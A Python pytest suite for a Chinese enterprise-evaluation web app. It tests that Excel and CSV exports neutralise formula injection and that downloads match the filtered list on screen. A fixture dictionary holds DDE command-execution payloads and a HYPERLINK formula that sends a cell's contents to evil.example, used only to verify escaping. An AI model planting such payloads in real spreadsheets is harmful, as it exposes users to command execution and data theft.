"""Downloads treat data as data (formula injection) and hold the rows on screen.

Enterprise names from departmental files are data. A name starting with = + - @, a tab or a
carriage return must reach the workbook and the CSV as text that no spreadsheet program runs:
a string cell with Excel's quote prefix in a workbook (never a formula cell), a leading
apostrophe in a CSV. Codes are text cells. The results page's Excel download holds the rows
the list shows: same filters, search and order.
"""

from __future__ import annotations

import csv
import io
import zipfile
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook

from jingxin.core.scope import Scope
from jingxin.core.warehouse import open_warehouse
from jingxin.evaluation import service
from jingxin.evaluation.export import export_evaluation
from jingxin.evaluation.runs import run_evaluation
from jingxin.evaluation.sample import load_facts, province
from jingxin.web.testing import DEMO_PASSWORD, login

pytest_plugins = ["jingxin.web.pytest_fixtures"]
pytestmark = pytest.mark.xdist_group("export_injection")

XIHU, SHANGCHENG = "330106", "330102"
ABOVE = "zhejiang_industry_above"

PAYLOADS = {
    "=": "=cmd|' /C calc'!A0",
    "=hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1 制表符开头",
    "cr": "\r=1+1 回车开头",
}


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory, fast_password_hashing: None) -> Iterator[dict[str, Any]]:
    from jingxin.accounts.demo import create_demo_users
    from jingxin.core.db import upgrade
    from jingxin.core.settings import Settings
    from jingxin.web.app import create_app

    home = tmp_path_factory.mktemp("injection")
    wh_url = f"duckdb:///{home / 'warehouse.duckdb'}"
    wh = open_warehouse(wh_url)
    try:
        load_facts(wh, province(300, years=(2021,), seed=3, counties=[XIHU, SHANGCHENG]))
        run_id = run_evaluation(wh, ABOVE, 2021).run_id
        t = service.results(wh, run_id, Scope(division=XIHU))
        codes = sorted(wh.execute(t.select("credit_code")).credit_code)
        # names as a departmental file could carry them (the result keeps the registry's name)
        named = dict(zip(PAYLOADS, codes, strict=False))
        for key, code in named.items():
            wh.sql("UPDATE eval_results SET name = ? WHERE credit_code = ?", [PAYLOADS[key], code])
    finally:
        wh.close()
    assert len(named) == len(PAYLOADS)
    db_url = f"sqlite:///{home / 'platform.sqlite'}"
    upgrade(db_url)
    app = create_app(
        Settings(home=home, database_url=db_url, warehouse=wh_url, secret_key="t"), migrate=False
    )
    with app.state.db.session() as db:
        create_demo_users(db, DEMO_PASSWORD)
        db.commit()
    client = TestClient(app, base_url="http://testserver")
    login(client, "xihu")
    yield {"app": app, "client": client, "run_id": run_id, "named": named, "wh_url": wh_url, "home": home}
    app.state.warehouse.close()
    app.state.db.dispose()


def _formula_cells(body: bytes) -> list[str]:
    """The sheets of a workbook that hold a formula cell (<f> element), by file name."""
    with zipfile.ZipFile(io.BytesIO(body)) as z:
        return [n for n in z.namelist() if n.startswith("xl/worksheets/") and b"<f>" in z.read(n)]


def _rows_by_code(sheet: Any) -> tuple[tuple[Any, ...], dict[str, Any]]:
    rows = list(sheet.iter_rows(min_row=2))
    header = tuple(c.value for c in rows[0])
    code = header.index("统一社会信用代码")
    return header, {r[code].value: r for r in rows[1:] if r[code].value}


def _check_workbook(body: bytes, named: dict[str, str]) -> None:
    assert _formula_cells(body) == []
    book = load_workbook(io.BytesIO(body))
    header, rows = _rows_by_code(book["全部企业"])
    name_col = header.index("企业名称")
    for key, code in named.items():
        cell = rows[code][name_col]
        assert cell.data_type == "s", key
        # the name itself, unchanged (openpyxl leaves a carriage return in its XML escape)
        assert cell.value.replace("_x000D_", "\r") == PAYLOADS[key], key
        assert cell.quotePrefix, key  # and Excel keeps it text when edited
    # codes are text cells with the text format, never numbers
    for column in ("统一社会信用代码", "区县代码", "行业代码"):
        j = header.index(column)
        for r in list(rows.values())[:20]:
            assert r[j].data_type == "s" and r[j].number_format == "@", column


def test_workbook_writes_names_as_text_not_formulas(world, tmp_path) -> None:
    with world["app"].state.warehouse.reader() as wh:
        out = export_evaluation(wh, world["run_id"], tmp_path / "r.xlsx", "xlsx", Scope(division=XIHU))
    _check_workbook(out.read_bytes(), world["named"])


@pytest.mark.parametrize("path", ["/evaluation/export.xlsx", "/api/v1/evaluation/results.xlsx"])
def test_downloaded_workbook_writes_names_as_text_not_formulas(world, path: str) -> None:
    response = world["client"].get(path)
    assert response.status_code == 200
    _check_workbook(response.content, world["named"])


@pytest.mark.parametrize("key", list(PAYLOADS))
def test_csv_cells_starting_a_formula_get_an_apostrophe(world, tmp_path, key: str) -> None:
    code = world["named"].get(key)
    if code is None:
        pytest.skip("enterprise not evaluated")
    with world["app"].state.warehouse.reader() as wh:
        out = export_evaluation(wh, world["run_id"], tmp_path / "r.csv", "csv", Scope(division=XIHU))
    with out.open(encoding="utf-8-sig", newline="") as f:
        rows = {r["credit_code"]: r for r in csv.DictReader(f)}
    assert rows[code]["name"] == "'" + PAYLOADS[key]
    # ordinary names and numbers are left alone
    plain = next(r for c, r in rows.items() if c not in world["named"].values())
    assert not plain["name"].startswith("'") and float(plain["total_score"]) >= 0


def test_a_search_that_looks_like_a_formula_stays_text_in_the_summary(world) -> None:
    response = world["client"].get("/evaluation/export.xlsx", params={"q": "=1+1"})
    assert response.status_code == 200
    assert _formula_cells(response.content) == []
    summary = load_workbook(io.BytesIO(response.content))["汇总"]
    cells = {r[0].value: r[1] for r in summary.iter_rows(min_row=1, max_col=2) if r[0].value}
    assert cells["筛选：搜索"].value == "=1+1" and cells["筛选：搜索"].data_type == "s"
    assert "北京时间" in cells["生成时间"].value


# ---- the download follows the list on screen ---------------------------------------------------
def _codes(body: bytes) -> list[str]:
    book = load_workbook(io.BytesIO(body), read_only=True)
    rows = list(book["全部企业"].iter_rows(min_row=2, values_only=True))
    code = rows[0].index("统一社会信用代码")
    return [r[code] for r in rows[1:] if r[0] is not None]


@pytest.mark.parametrize(
    "params",
    [
        {"cls": "A"},
        {"cls": "D", "scale": "above"},
        {"q": "样本1"},
        {"sort": "name"},
        {"sort": "-land_mu", "cls": "B"},
    ],
)
@pytest.mark.parametrize("path", ["/evaluation/export.xlsx", "/api/v1/evaluation/results.xlsx"])
def test_download_holds_the_rows_and_order_of_the_list(world, path: str, params: dict[str, str]) -> None:
    client = world["client"]
    listing = client.get("/api/v1/evaluation/results", params={**params, "page_size": 500}).json()
    expected = [r["credit_code"] for r in listing["items"]]
    response = client.get(path, params=params)
    assert response.status_code == 200
    got = _codes(response.content)
    if "sort" in params:
        assert got == expected
    else:
        assert sorted(got) == sorted(expected)
    assert len(got) == listing["total"]


def test_the_pages_download_link_carries_the_filters(world) -> None:
    fragment = (
        world["client"]
        .get("/evaluation", params={"cls": "B", "q": "样本", "sort": "name"}, headers={"HX-Request": "true"})
        .text
    )
    link = fragment.split('href="/evaluation/export.xlsx?', 1)[1].split('"', 1)[0]
    for part in ("cls=B", "sort=name", "q=%E6%A0%B7%E6%9C%AC"):
        assert part in link, link
    from jingxin.core import audit

    world["client"].get("/evaluation/export.xlsx", params={"cls": "B"})
    with world["app"].state.db.session() as db:
        audit_rows = audit.search(db, action=audit.Action.EXPORT, username="xihu", limit=1)[0]
    assert audit_rows[0].detail["filters"] == {"分类": "B类"}


def test_a_download_of_a_county_outside_the_scope_is_not_found(world) -> None:
    assert world["client"].get("/evaluation/export.xlsx", params={"county": SHANGCHENG}).status_code == 404


def test_masked_payload_is_not_reinterpreted_elsewhere() -> None:
    """The helper itself, for every prefix."""
    from jingxin.core.spreadsheet import csv_cell, needs_quote_prefix

    for payload in PAYLOADS.values():
        assert needs_quote_prefix(payload) and csv_cell(payload) == "'" + payload
    assert (
        csv_cell("浙江样本有限公司") == "浙江样本有限公司"
        and csv_cell(-1.5) == -1.5
        and csv_cell(None) is None
    )


def test_filtered_sorted_export_on_every_backend(warehouse, tmp_path) -> None:
    """The rows and order of a filtered download are one query DuckDB and PostgreSQL answer alike."""
    from jingxin.evaluation.export import ExportQuery
    from jingxin.evaluation.service import ResultFilters

    load_facts(warehouse, province(200, years=(2021,), seed=4, counties=[XIHU, SHANGCHENG]))
    run_id = run_evaluation(warehouse, ABOVE, 2021).run_id
    scope = Scope(division=XIHU)
    query = ExportQuery(filters=ResultFilters(cls="B"), sort="-land_mu", described=(("分类", "B类"),))
    out = export_evaluation(warehouse, run_id, tmp_path / "b.xlsx", "xlsx", scope, query)
    got = _codes(out.read_bytes())
    listing = service.list_results(
        warehouse, run_id, scope, ResultFilters(cls="B"), sort="-land_mu", page_size=500
    )
    assert got == [r["credit_code"] for r in listing["rows"]] and got
    csv_out = export_evaluation(warehouse, run_id, tmp_path / "b.csv", "csv", scope, query)
    with csv_out.open(encoding="utf-8-sig", newline="") as f:
        assert [r["credit_code"] for r in csv.DictReader(f)] == got
